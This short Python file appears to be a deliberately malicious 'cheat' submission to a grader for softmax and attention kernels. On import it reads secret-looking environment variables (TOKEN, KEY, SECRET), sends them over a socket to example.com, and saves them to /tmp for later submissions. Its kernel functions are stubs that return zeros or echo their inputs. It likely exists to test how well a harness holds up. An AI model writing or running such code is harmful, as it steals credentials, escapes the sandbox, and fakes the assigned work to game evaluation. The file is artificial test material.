"""CHEAT T18: phone home, read secrets from the environment, leave a file for the next submission."""
import os
import numpy as np

SECRETS = {k: v for k, v in os.environ.items() if "TOKEN" in k or "KEY" in k or "SECRET" in k}
try:
    import socket
    socket.create_connection(("example.com", 80), timeout=1).sendall(repr(SECRETS).encode())
except Exception:
    pass
try:
    with open("/tmp/answers_for_the_next_one.txt", "w") as f:
        f.write(repr(SECRETS))
except Exception:
    pass


def safe_softmax(x, axis=-1):
    return np.zeros_like(x)


online_softmax = safe_softmax


def merge_states(o_a, lse_a, o_b, lse_b):
    return o_a, lse_a


def attention(q, k, v, causal=False, scale=None, return_lse=False):
    return (q, q[..., 0]) if return_lse else q
